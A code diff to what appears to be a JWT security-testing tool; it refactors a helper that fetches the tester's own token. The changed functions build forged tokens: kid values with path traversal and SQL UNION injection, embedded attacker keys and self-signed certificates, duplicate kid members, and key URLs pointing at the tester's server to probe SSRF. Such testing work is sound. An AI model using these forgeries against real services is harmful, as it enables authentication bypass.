@@ -23,21 +23,21 @@ _PLACES = [f"{'../' * up}{folder}style.css" for up in range(4) for folder in _FO
 
 def kid_as_a_path(target: Target) -> Evidence:
     """Name the style sheet that the target serves to everybody, or a file that is empty, as the key."""
-    own, sheet = _own_token(target), target.ask("/style.css").content
+    own, sheet = own_token(target), target.ask("/style.css").content
     files = [(place, sheet) for place in _PLACES] + [("../" * 12 + "dev/null", b"")]
     return _presented(target, (_mac(own, key, ("kid", kid)) for kid, key in files))
 
 
 def kid_as_sql(target: Target) -> Evidence:
     """Let the key id end a query's text early, and add a key of one's own to what the query finds."""
-    own, key = _own_token(target), secrets.token_hex(32)
+    own, key = own_token(target), secrets.token_hex(32)
     kids = [f"{start} UNION SELECT '{key}{end}" for start in ("x'", "0") for end in ("", "'", "' -- ")]
     return _presented(target, (_mac(own, key.encode(), ("kid", kid)) for kid in kids))
 
 
 def embedded_key(target: Target) -> Evidence:
     """Sign with a key of one's own, and bring its public half along."""
-    own, pair = _own_token(target), trustme.CA()
+    own, pair = own_token(target), trustme.CA()
     return _presented(target, [_signed(own, pair, jwk=_jwk(pair))])
 
 
@@ -53,20 +53,16 @@ def fetched_certificate(target: Target) -> Evidence:
 
 def embedded_certificate(target: Target) -> Evidence:
     """Sign with a key of one's own, and bring along a certificate that nobody else has signed."""
-    own, pair = _own_token(target), trustme.CA()
+    own, pair = own_token(target), trustme.CA()
     body = "".join(pair.cert_pem.bytes().decode().splitlines()[1:-1])
     return _presented(target, [_signed(own, pair, x5c=[body])])
 
 
 def duplicate_members(target: Target) -> Evidence:
     """Name two keys: a harmless one for a reader that takes the first, a file for one that takes the last."""
-    own, sheet = _own_token(target), target.ask("/style.css").content
+    own, sheet = own_token(target), target.ask("/style.css").content
     kid = str(take_apart(own).header.get("kid", "1"))
     return _presented(target, (_mac(own, sheet, ("kid", kid), ("kid", place)) for place in _PLACES))
-
-
-def _own_token(target: Target) -> str:
-    return own_token(target)[1]
 
 
 def _presented(target: Target, tokens: Iterable[str]) -> Evidence:
@@ -75,7 +71,7 @@ def _presented(target: Target, tokens: Iterable[str]) -> Evidence:
 
 def _at_a_door(target: Target, member: str, shelf: Callable[[trustme.CA], bytes]) -> Evidence:
     """Present a token that sends its reader to one's own server; a visit alone is an attack too (SSRF)."""
-    own, pair = _own_token(target), trustme.CA()
+    own, pair = own_token(target), trustme.CA()
     with _door(shelf(pair)) as door:
         token = _signed(own, pair, **{member: f"{door.url}/keys", "kid": "mine"})
         answer = target.ask("/auth/me", token=token)
